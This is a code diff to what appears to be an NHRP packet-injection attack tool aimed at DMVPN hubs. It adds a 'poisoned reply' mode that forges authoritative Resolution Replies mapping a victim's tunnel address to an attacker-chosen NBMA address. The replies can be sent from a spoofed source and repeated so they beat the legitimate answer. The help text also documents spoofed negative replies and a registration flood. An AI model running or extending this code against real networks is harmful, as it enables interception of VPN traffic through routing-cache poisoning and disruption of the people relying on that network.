@@ -27,13 +27,15 @@ address given.
       (request ID 1), with no authentication unless --auth is given.
   nhrp_inject.py answer --to 192.0.2.1 --key 42 --src-nbma 192.0.2.13 \
       --src-proto 10.0.0.1 --dst-proto 10.0.0.11 --count 3000 \
-      [--spoof 192.0.2.11] [--repeat-secs S] [--auth SECRET]
+      [--spoof 192.0.2.11] [--repeat-secs S] [--cie-nbma A] [--auth S]
       Negative Resolution Replies (code 12, no binding) for dst-proto, with
       request IDs 1 to COUNT: a claimant answering the hub's question to
       the holder of a unique address ("gone") for it; --spoof sends them
       from the holder's own NBMA address; --repeat-secs goes on sending
       the series for S seconds, so that a question asked meanwhile is
-      answered before its holder can.
+      answered before its holder can.  With --cie-nbma, a positive
+      answer instead (code 0), mapping dst-proto to that NBMA address:
+      a poisoned reply.
   nhrp_inject.py flood --to 192.0.2.1 --key 42 --src-nbma X --count 2000
       Registrations from COUNT spoofed outer sources 198.18.0.1 upwards,
       each for its own tunnel address 10.128.0.1 upwards.
@@ -290,6 +292,24 @@ def cmd_error(a):
     return 0
 
 
+def poisoned_reply(a, reqid, exts):
+    """Resolution Reply mapping dst-proto to --cie-nbma: one CIE, code 0,
+    with its NBMA and protocol addresses; flags D and A (authoritative)."""
+    cie = struct.pack("!BBHHHBBBB", 0, 32, 0, 0, 600, 4, 0, 4, 0)
+    cie += socket.inet_aton(a.cie_nbma) + socket.inet_aton(a.dst_proto)
+    body = struct.pack("!BBHI", 4, 4, 0x6000, reqid)
+    body += socket.inet_aton(a.spoof or a.src_nbma)
+    body += socket.inet_aton(a.src_proto) + socket.inet_aton(a.dst_proto)
+    body += cie
+    extoff = 20 + len(body)
+    body += exts
+    hdr = struct.pack("!HH5sBHHHBBBB", 1, 0x0800, b"\0" * 5, 8,
+                      20 + len(body), 0, extoff, 1, 2, 4, 0)
+    pkt = bytearray(hdr + body)
+    struct.pack_into("!H", pkt, 12, checksum(bytes(pkt)))
+    return bytes(pkt)
+
+
 def cmd_answer(a):
     """Replies to a question the hub asked someone else."""
     src = a.spoof or a.src_nbma
@@ -300,8 +320,11 @@ def cmd_answer(a):
     for reqid in range(1, a.count + 1):
         # Resolution Reply: source = the hub (who asked), destination =
         # the contested address; one CIE, code 12 (no binding).
-        pkt = nhrp_packet(2, 0, reqid, a.to, a.src_proto, a.dst_proto,
-                          cies=[(12, 32, 0)], exts=exts)
+        if a.cie_nbma:
+            pkt = poisoned_reply(a, reqid, exts)
+        else:
+            pkt = nhrp_packet(2, 0, reqid, a.to, a.src_proto, a.dst_proto,
+                              cies=[(12, 32, 0)], exts=exts)
         g = gre(pkt, a.key)
         series.append(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(g), 0,
                                   0, 64, 47, 0, socket.inet_aton(src), dst) +
@@ -399,6 +422,7 @@ def main():
     ap.add_argument("--auth", help="Cisco cleartext NHRP password")
     ap.add_argument("--spoof", help="outer source address to send from")
     ap.add_argument("--repeat-secs", type=float, default=0)
+    ap.add_argument("--cie-nbma", help="answer positively, with this NBMA")
     ap.add_argument("--code", type=int, default=7,
                     help="Error Indication code (7: protocol error)")
     ap.add_argument("--ext-len", type=int, default=0,
